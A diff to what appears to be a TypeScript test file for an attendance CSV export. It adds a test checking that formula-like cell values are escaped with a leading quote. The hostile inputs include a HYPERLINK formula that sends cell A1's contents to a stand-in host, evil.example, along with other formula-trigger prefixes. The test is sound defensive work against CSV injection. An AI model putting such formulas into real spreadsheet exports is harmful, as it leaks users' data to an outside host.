@@ -41,6 +41,23 @@ const rows = [
 ];
 
 describe('attendance export', () => {
+  it('neutralises every CSV cell that a spreadsheet would run as a formula (OWASP)', () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+      '+62 811',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const csv = exportCsv(session, hostile.map((name, i) => row(`2430011012000000${i}`, '6310015503920001', { name, jabatan: name })));
+    const back = parse(csv, { bom: true }) as string[][];
+    expect(back.slice(1).map((r) => r[3])).toEqual(hostile.map((h) => `'${h}`));
+    expect(back.slice(1).map((r) => r[4])).toEqual(hostile.map((h) => `'${h}`));
+    // An ordinary name is untouched.
+    expect((parse(exportCsv(session, [row('1', '6310015503920001')]), { bom: true }) as string[][])[1]![3]).toBe('Siti Aisyah, S.Pd');
+  });
+
   it('writes CSV with a BOM that reads back with every digit and the statuses', () => {
     const csv = exportCsv(session, rows);
     expect(csv.startsWith('\uFEFFNo,Nomor Peserta,NIK,')).toBe(true);
